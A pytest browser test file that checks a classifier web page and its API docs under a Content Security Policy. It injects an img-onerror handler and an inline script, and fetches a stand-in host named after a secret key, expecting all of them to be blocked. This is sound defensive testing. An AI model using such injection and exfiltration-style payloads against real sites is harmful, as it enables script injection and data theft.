"""The pages in a real browser, under the policy that they are served with."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest

from tests.serving.browser import CHROMIUM, Page, browsing
from tests.serving.conftest import Trained
from tests.serving.server import running

KEY = "secret"


@pytest.fixture(scope="module")
def address(trained: Trained) -> Iterator[str]:
    with running(trained) as (client, _):
        yield str(client.base_url)


@pytest.fixture
def page(tmp_path: Path) -> Iterator[Page]:
    if CHROMIUM is None:
        pytest.skip("there is no Chromium")
    with browsing(tmp_path) as page:
        yield page


def test_a_text_is_classified_and_the_interface_is_shown(page: Page, address: str) -> None:
    page.open(address)
    page.until("document.getElementById('model').textContent.startsWith('bayes, trained on toy')")
    page.run("document.getElementById('text').value = 'I love this so much'; document.querySelector('button').click()")
    page.until("document.querySelectorAll('.words mark').length === 5")
    assert page.run("getComputedStyle(document.querySelector('mark')).backgroundColor") != "rgba(0, 0, 0, 0)"
    assert page.run("getComputedStyle(document.querySelector('.bar')).display") == "grid" and page.run("refused") == []
    page.open(f"{address}/docs")
    page.until("document.querySelectorAll('.opblock').length === 15")
    assert page.run("refused") == []
    page.run("document.querySelector('.opblock-summary-control').click()")
    page.until("document.querySelector('.opblock-body')")
    assert page.run("refused") == []
    loaded = page.run("performance.getEntriesByType('resource').map(one => one.name)")
    assert len(loaded) >= 3 and all(name.startswith((address, "data:")) for name in loaded), loaded


def test_what_is_put_into_a_page_does_not_run(page: Page, address: str) -> None:
    page.open(address)
    page.until("window.refused")
    page.run("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = 1\">')")
    page.run("document.body.append(Object.assign(document.createElement('script'), {textContent: 'window.ran = 1'}))")
    page.until("refused.filter(one => one.startsWith('script-src')).length >= 2")
    assert page.run("window.ran ?? null") is None
    assert page.run(f"fetch('https://{KEY}.invalid/').then(() => 'sent', () => 'refused')") == "refused"
    page.until("refused.some(one => one.startsWith('connect-src'))")


def test_pages_name_no_other_server(address: str) -> None:
    with httpx.Client(base_url=address) as client:
        for path in ("/", "/docs"):
            page = client.get(path)
            found = re.findall(r"(?:src|href)=\"([^\"]*)\"", page.text)
            assert not [one for one in found if "//" in one]
            assert "unsafe" not in page.headers["content-security-policy"]
            for one in found:
                assert one.startswith("data:") or client.get(one).status_code == 200, one
